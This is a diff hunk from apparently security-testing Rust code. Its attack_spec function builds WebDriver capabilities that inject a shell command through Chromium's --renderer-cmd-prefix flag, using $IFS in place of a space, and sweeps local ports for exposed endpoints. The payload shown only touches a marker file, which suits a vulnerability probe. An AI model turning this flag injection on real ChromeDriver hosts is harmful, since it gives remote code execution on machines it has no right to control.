@@ -51,7 +51,7 @@ fn attack_spec(ports: &[u16], marker: &Path) -> String {
     let caps = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {
         "binary": "/usr/bin/chromium",
         "args": ["--headless", "--no-sandbox",
-                 format!("--renderer-cmd-prefix=/bin/sh -c touch${{IFS}}{}", marker.display())],
+                 format!("--renderer-cmd-prefix=/bin/sh -c touch$IFS{}", marker.display())],
     }}}});
     let js = format!(
         "for (const p of {ports:?}) for (const h of ['127.0.0.1', 'localhost']) \
